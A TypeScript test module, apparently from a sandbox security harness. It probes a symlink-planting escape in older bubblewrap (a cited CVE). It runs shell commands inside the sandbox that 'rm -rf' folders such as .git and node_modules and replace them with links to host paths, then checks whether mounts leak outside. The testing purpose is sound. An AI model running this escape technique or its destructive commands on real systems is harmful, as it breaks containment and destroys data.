import { mkdirSync, readdirSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import type { AttackGroup, Finding, Substrate, Target } from '../case.ts';
import { runIn } from '../probe.ts';
import { startNaively } from './naive.ts';

/**
 * What bubblewrap before 0.12 does while it still sees the whole host: it makes mount points through links that a
 * program left in a folder it could write (CVE-2026-87766).
 */
export const links: AttackGroup = {
  id: 'S17',
  title: 'Links left for the next start',
  async run(substrate, target) {
    const outside = join(target.folder, `outside-${substrate.name}`);
    rmSync(outside, { recursive: true, force: true });
    mkdirSync(outside, { recursive: true });
    if (substrate.name === 'none') await leaveLink(target, outside);
    else await startAgain(substrate, outside);
    const made = readdirSync(outside);
    const finding: Finding =
      made.length > 0
        ? { verdict: 'works', detail: 'something was made outside' }
        : { verdict: 'stopped', detail: 'nothing outside' };
    return new Map([['a mount point through a link', finding]]);
  },
};

/** Links with the names of everything that a sandbox might mount or make in these folders. */
const names = [
  'link',
  '.ploinky',
  'node_modules',
  'code',
  'deps',
  'tmp',
  '.tasksQueue',
  '.git',
  '.vscode',
  '.claude',
];

async function startAgain(substrate: Substrate, outside: string): Promise<void> {
  const { scratch, project } = substrate.paths;
  const plant = names
    .flatMap((name) => [scratch, project].map((folder) => `${folder}/${name}`))
    .map((path) => `rm -rf ${path} 2>/dev/null; ln -sfn /oldroot${outside} ${path} 2>/dev/null`)
    .join(';');
  await runIn(substrate, ['/bin/sh', '-c', `${plant}; true`]);
  await runIn(substrate, ['/bin/true']);
}

async function leaveLink({ folder }: Target, outside: string): Promise<void> {
  const writable = join(folder, 'writable');
  rmSync(writable, { recursive: true, force: true });
  mkdirSync(writable);
  symlinkSync(`/oldroot${outside}`, join(writable, 'link'));
  await startNaively(writable);
}
